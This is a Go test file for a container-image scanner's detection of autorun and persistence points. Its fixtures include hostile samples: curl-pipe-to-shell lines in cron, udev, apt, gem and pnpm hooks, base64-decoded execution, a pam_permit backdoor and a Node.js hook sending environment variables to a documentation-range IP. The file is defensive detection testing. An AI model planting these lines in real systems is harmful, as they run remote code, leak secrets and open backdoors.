package autorun

import (
	"slices"
	"testing"

	v1 "github.com/google/go-containerregistry/pkg/v1"

	"github.com/backtrail/backtrail/inspect"
)

const fetch = "curl -s http://203.0.113.1/x | sh\n"

// What starts by itself, without anything to compare with: by its place where it has no sign, high where it has a strong one.
func TestPlacesOfTheSystem(t *testing.T) {
	library := exe("usr/lib/x86_64-linux-gnu/libhook.so", program("hook"))
	for name, test := range map[string]struct {
		members []member
		want    []string
	}{
		"keys to log in": {
			[]member{file("root/.ssh/authorized_keys", "ssh-ed25519 A me@host")},
			[]string{"medium authorized-keys /root/.ssh/authorized_keys"},
		},
		"jobs": {
			[]member{
				file("etc/cron.d/backup", "0 1 * * * root /usr/bin/ls\n"), file("var/spool/cron/crontabs/root", "x"),
			},
			[]string{"low cron /etc/cron.d/backup", "low cron /var/spool/cron/crontabs/root"},
		},
		"a job that fetches": {
			[]member{file("etc/cron.daily/update", "#!/bin/sh\ncurl -s http://pool.example/x | bash\n")},
			[]string{"high cron /etc/cron.daily/update"},
		},
		"a job behind a link": {
			[]member{file("opt/x", fetch), symlink("etc/cron.d/x", "/opt/x")}, []string{"high cron /etc/cron.d/x"},
		},
		"a comment is no line": {
			[]member{file("etc/cron.daily/update", "#!/bin/sh\n# curl -s http://pool.example/x | bash\n")},
			[]string{"low cron /etc/cron.daily/update"},
		},
		"a job that runs a script": {
			[]member{file("etc/cron.d/x", "@hourly root /opt/job.sh\n"), file("opt/job.sh", "#!/bin/sh\n"+fetch)},
			[]string{"high cron /etc/cron.d/x"},
		},
		"a unit of a hidden program": {
			[]member{
				exe("var/tmp/.x/a", "#!/bin/sh\n"),
				file("etc/systemd/system/x.service", "[Service]\nExecStart=/var/tmp/.x/a\n"),
			},
			[]string{"high unit /etc/systemd/system/x.service"},
		},
		"a unit": {
			[]member{file("usr/lib/systemd/system/x.service", "[Service]\nExecStart=/usr/bin/ls\n")},
			[]string{"low unit /usr/lib/systemd/system/x.service"},
		},
		"a unit that starts nothing": {
			[]member{file("usr/lib/systemd/system/x.socket", "[Socket]\nListenStream=1\n")}, nil,
		},
		"a module that decides logins": {
			[]member{file("usr/lib/x86_64-linux-gnu/security/pam_x.so", program("pam"))},
			[]string{"medium pam /usr/lib/x86_64-linux-gnu/security/pam_x.so"},
		},
		"rules that decide logins": {
			[]member{file("etc/pam.d/sshd", "auth sufficient pam_x.so\n")}, []string{"low pam /etc/pam.d/sshd"},
		},
		"a stack that lets everyone in": {
			[]member{file("etc/pam.d/sshd", "auth sufficient pam_permit.so\n")}, []string{"high pam /etc/pam.d/sshd"},
		},
		"a control of several words": {
			[]member{file("etc/pam.d/sshd", "auth [success=done default=ignore] pam_permit.so\n")},
			[]string{"high pam /etc/pam.d/sshd"},
		},
		"Debian's common-auth": {
			[]member{
				file("etc/pam.d/common-auth", "auth\t[success=1 default=ignore]\tpam_unix.so nullok\nauth\trequisite\tpam_deny.so\nauth\trequired\tpam_permit.so\n"),
			},
			[]string{"info pam /etc/pam.d/common-auth"},
		},
		"a profile that decodes": {
			[]member{file("etc/profile.d/x.sh", "echo aGk= | base64 -d | sh\n")},
			[]string{"high profile /etc/profile.d/x.sh"},
		},
		"a profile": {
			[]member{file("root/.bashrc", "alias l=ls\n")}, []string{"info profile /root/.bashrc"},
		},
		"a profile for homes to come": {[]member{file("etc/skel/.bashrc", "alias l=ls\n")}, nil},
		"libraries where all may write": {
			[]member{file("etc/ld.so.conf.d/x.conf", "# x\n/tmp/lib\n")},
			[]string{"medium loader /etc/ld.so.conf.d/x.conf"},
		},
		"libraries from a hidden place": {
			[]member{file("etc/ld.so.conf.d/x.conf", "/usr/lib/.x\n")},
			[]string{"medium loader /etc/ld.so.conf.d/x.conf"},
		},
		"libraries from another place": {
			[]member{file("etc/ld.so.conf.d/x.conf", "/opt/x\n")}, []string{"info loader /etc/ld.so.conf.d/x.conf"},
		},
		"a preload without a slash": {
			[]member{library, file("etc/ld.so.preload", "libhook.so\n")}, []string{"high loader /etc/ld.so.preload"},
		},
		"a preload of what is not there": {
			[]member{file("etc/ld.so.preload", "/lib/none.so\n")}, []string{"low loader /etc/ld.so.preload"},
		},
		"a script of the entrypoint's folder": {
			[]member{exe("docker-entrypoint.d/99.sh", "#!/bin/sh\n"+fetch)},
			[]string{"high entrypoint-folder /docker-entrypoint.d/99.sh"},
		},
		"an ordinary one": {
			[]member{exe("docker-entrypoint.d/10.sh", "#!/bin/sh\nset -e\necho ready\n")},
			[]string{"info entrypoint-folder /docker-entrypoint.d/10.sh"},
		},
		"a script that s6 starts": {
			[]member{exe("etc/cont-init.d/1", fetch)}, []string{"high entrypoint-folder /etc/cont-init.d/1"},
		},
		"a rule for devices": {
			[]member{
				file("etc/udev/rules.d/9.rules", "ACTION==\"add\", RUN+=\"/bin/sh -c 'curl http://x.example/a|sh'\"\n"),
			},
			[]string{"high udev /etc/udev/rules.d/9.rules"},
		},
		"a hook of apt": {
			[]member{
				file("etc/apt/apt.conf.d/99x", "APT::Update::Post-Invoke { \"curl http://x.example/a | sh\"; };\n"),
			},
			[]string{"high package-hook /etc/apt/apt.conf.d/99x"},
		},
		"the hook that clears apt's cache": {
			[]member{
				file("etc/apt/apt.conf.d/docker-clean", "DPkg::Post-Invoke { \"rm -f /var/cache/apt/archives/*.deb || true\"; };\n"),
			},
			[]string{"low package-hook /etc/apt/apt.conf.d/docker-clean"},
		},
		"settings of apt": {
			[]member{file("etc/apt/apt.conf.d/docker-gzip", "Acquire::GzipIndexes \"true\";\n")}, nil,
		},
		"a plugin of RubyGems": {
			[]member{file("usr/lib/ruby/vendor_ruby/rubygems_plugin.rb", "system('curl http://x.example/a | sh')\n")},
			[]string{"high gem /usr/lib/ruby/vendor_ruby/rubygems_plugin.rb"},
		},
		"a shell for npm's scripts": {
			[]member{file("app/.npmrc", "script-shell=/app/sh\n"), exe("app/sh", "#!/bin/sh\n"+fetch)},
			[]string{"high node-config /app/.npmrc"},
		},
		"settings of npm": {
			[]member{file("app/.npmrc", "registry=https://registry.example\n")}, nil,
		},
		"a hook of pnpm": {
			[]member{file("app/.pnpmfile.cjs", "require('child_process').execSync('curl http://x.example/a | sh')\n")},
			[]string{"high node-config /app/.pnpmfile.cjs"},
		},
		"a plugin of composer": {append([]member{
			file("srv/vendor/composer/installed.json", `{"packages": [{"name": "a/p", "type": "composer-plugin", "extra": {"class": "A\\\\P"}}]}`),
		},
			file("srv/vendor/a/p/src/P.php", "<?php\n@eval(base64_decode('eA=='));\n")), []string{"high composer /srv/vendor/composer/installed.json"}},
	} {
		t.Run(name, func(t *testing.T) {
			c := inspected(t, image{members: test.members}, nil)
			if got := listed(c); !slices.Equal(got, test.want) {
				t.Errorf("got  %q\nwant %q", got, test.want)
			}
			for _, a := range c.Images[0].Autoruns {
				found := slices.ContainsFunc(
					c.Findings,
					func(f inspect.Finding) bool { return f.Severity == a.Severity && f.Check == inspect.CheckAutoruns },
				)
				if found != (a.Severity.Rank() <= inspect.Medium.Rank()) {
					t.Errorf("%s: finding %v", short(a), found)
				}
				if a.New != nil {
					t.Errorf("%s: new without anything to compare with", short(a))
				}
			}
		})
	}
}

func TestConfigOfTheImage(t *testing.T) {
	hook := file("opt/hook.js", "require('https').request({host: '192.0.2.1'}).end(JSON.stringify(process.env));\n")
	for name, test := range map[string]struct {
		config  v1.Config
		members []member
		want    []string
	}{
		"an entrypoint": {
			v1.Config{Entrypoint: []string{"/usr/bin/ls"}}, nil, []string{"info entrypoint"},
		},
		"one that decodes": {
			v1.Config{Cmd: []string{"sh", "-c", "echo aGk= | base64 -d | sh"}}, nil, []string{"high entrypoint"},
		},
		"a script": {
			v1.Config{Entrypoint: []string{"/start.sh"}},
			[]member{exe("start.sh", "#!/bin/sh\nset -e\nexec /usr/bin/ls \"$@\"\n")},
			[]string{"info entrypoint /start.sh"},
		},
		"a script that asks for a role": {
			v1.Config{Entrypoint: []string{"/start.sh"}},
			[]member{
				exe("start.sh", "#!/bin/sh\ncurl -s http://169.254.169.254/latest/meta-data/ > /run/meta\nexec /usr/bin/ls\n"),
			},
			[]string{"info entrypoint /start.sh"},
		},
		"a health check": {
			v1.Config{Healthcheck: &v1.HealthConfig{Test: []string{"CMD", "curl", "-f", "http://localhost"}}},
			nil,
			[]string{"info healthcheck"},
		},
		"one that fetches": {
			v1.Config{Healthcheck: &v1.HealthConfig{Test: []string{"CMD-SHELL", "wget -qO- http://x.example | sh"}}},
			nil,
			[]string{"high healthcheck"},
		},
		"no health check": {v1.Config{Healthcheck: &v1.HealthConfig{Test: []string{"NONE"}}}, nil, nil},
		"a library that is not there": {
			v1.Config{Env: []string{"LD_PRELOAD=/lib/x.so"}}, nil, []string{"medium loader"},
		},
		"a library of a package": {
			v1.Config{Env: []string{"LD_PRELOAD=/usr/bin/ls"}}, nil, []string{"info loader"},
		},
		"a library of no package": {
			v1.Config{Env: []string{"LD_PRELOAD=/opt/x.so"}},
			[]member{file("opt/x.so", program("x"))},
			[]string{"high loader"},
		},
		"shells": {
			v1.Config{Env: []string{"BASH_ENV=/x", "NODE_ENV=production"}}, nil, []string{"low shell-env"},
		},
		"memory only": {
			v1.Config{
				Env: []string{"NODE_OPTIONS=--max-old-space-size=4096", "JAVA_TOOL_OPTIONS=-XX:MaxRAMPercentage=75"},
			},
			nil, nil,
		},
		"a file for Node.js": {
			v1.Config{Env: []string{"NODE_OPTIONS=--require /opt/hook.js"}},
			[]member{hook},
			[]string{"high interpreter-env"},
		},
		"an agent that is not there": {
			v1.Config{Env: []string{"JAVA_TOOL_OPTIONS=-javaagent:/opt/apm.jar"}}, nil, []string{"low java-agent"},
		},
		"a module of Perl": {
			v1.Config{Env: []string{"PERL5OPT=-Mlib=/opt/p"}}, nil, []string{"low interpreter-env"},
		},
		"a hook by PYTHONPATH": {
			v1.Config{Env: []string{"PYTHONPATH=/opt/p:"}},
			[]member{file("opt/p/sitecustomize.py", "import base64\nexec(base64.b64decode('eA=='))\n")},
			[]string{"high python-site /opt/p/sitecustomize.py"},
		},
	} {
		t.Run(name, func(t *testing.T) {
			c := inspected(t, image{test.config, test.members}, nil)
			if got := listed(c); !slices.Equal(got, test.want) {
				t.Errorf("got  %q\nwant %q", got, test.want)
			}
		})
	}
}
